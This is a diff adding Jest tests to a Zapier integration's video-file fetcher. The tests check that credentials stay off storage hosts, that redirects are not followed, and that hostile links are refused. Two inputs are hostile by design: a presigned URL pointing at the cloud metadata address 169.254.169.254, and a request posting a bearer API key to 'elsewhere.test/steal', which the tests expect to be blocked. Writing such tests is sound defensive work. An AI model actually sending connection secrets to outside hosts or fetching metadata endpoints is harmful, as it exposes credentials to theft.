@@ -1,6 +1,6 @@
 import nock from 'nock';
 import { hydrateVideoFile } from '../../packages/zapier/src/video-file';
-import { BASE_URL, RECORDING_ID, REST_PATH, appTester, hookAuth, restApi, restAuth, useNock, videoUrl, zapierError } from './harness';
+import { API_KEY, BASE_URL, RECORDING_ID, REST_PATH, appTester, hookAuth, restApi, restAuth, useNock, videoUrl, zapierError } from './harness';
 
 useNock();
 
@@ -48,6 +48,41 @@ describe('video file hydration', () => {
     expect(stash.uploaded()).toContain(VIDEO_BYTES.toString());
   });
 
+  it('fetches a link on the storage\'s own host without any credential of the connection, and follows no redirect', async () => {
+    const storage = 'https://storage.example.net';
+    const link = `${storage}/bucket/${RECORDING_ID}.webm?X-Amz-Signature=abc`;
+    restApi().get(`${REST_PATH}/recordings/${RECORDING_ID}/presign`).reply(200, { url: link });
+    nock(storage, { badheaders: ['authorization', 'x-service-token'] })
+      .get(`/bucket/${RECORDING_ID}.webm`)
+      .query({ 'X-Amz-Signature': 'abc' })
+      .reply(200, VIDEO_BYTES, { 'Content-Type': 'video/webm' });
+    const stash = zapierFileStash();
+
+    await expect(appTester(hydrateVideoFile, { authData: restAuth, inputData: { recordingId: RECORDING_ID } })).resolves.toBe(`${UPLOAD_URL}/stash/1234/video`);
+    expect(stash.uploaded()).toContain(VIDEO_BYTES.toString());
+  });
+
+  it('does not follow a redirect from the video link, and says what the storage answered', async () => {
+    restApi().get(`${REST_PATH}/recordings/${RECORDING_ID}/presign`).reply(200, { url: videoUrl(RECORDING_ID, 'fresh') });
+    nock(BASE_URL).get(`/videos/${RECORDING_ID}`).query(true).reply(302, '', { Location: 'https://elsewhere.test/video' });
+
+    await expect(zapierError(appTester(hydrateVideoFile, { authData: restAuth, inputData: { recordingId: RECORDING_ID } }))).resolves.toEqual({
+      name: 'AppError',
+      code: 'UNEXPECTED_RESPONSE',
+      status: 302,
+      message: "The video's storage answered HTTP 302 instead of the video. Try again in a few minutes; if it keeps happening, tell your ScreenRec administrator.",
+    });
+  });
+
+  it('refuses a video link on a private address the service is not on', async () => {
+    restApi().get(`${REST_PATH}/recordings/${RECORDING_ID}/presign`).reply(200, { url: `http://169.254.169.254/latest/meta-data?X-Amz-Signature=abc` });
+
+    const error = await zapierError(appTester(hydrateVideoFile, { authData: restAuth, inputData: { recordingId: RECORDING_ID } }));
+
+    expect(error).toMatchObject({ name: 'AppError', code: 'INVALID_INPUT' });
+    expect(error.message).toContain('169.254.169.254');
+  });
+
   it('reports a recording without a video as NOT_FOUND', async () => {
     restApi().get(`${REST_PATH}/recordings/${RECORDING_ID}/presign`).reply(404, { message: 'Not found' });
 
@@ -63,5 +98,19 @@ describe('video file hydration', () => {
     const error = await zapierError(appTester(hydrateVideoFile, { authData: hookAuth, inputData: { recordingId: RECORDING_ID } }));
 
     expect(error).toMatchObject({ name: 'AppError', code: 'REST_NOT_CONFIGURED' });
+  });
+});
+
+describe('requests leave only for the Service URL', () => {
+  it('refuses a request that would carry a connection secret to another host, before sending it', async () => {
+    const error = await zapierError(
+      appTester(async (z) => z.request({ url: 'https://elsewhere.test/steal', method: 'POST', headers: { authorization: `Bearer ${API_KEY}` } }), { authData: restAuth }),
+    );
+
+    expect(error).toEqual({
+      name: 'AppError',
+      code: 'REFUSED_HOST',
+      message: "Refused a request to https://elsewhere.test: this app sends the connection's credentials to its Service URL only.",
+    });
   });
 });
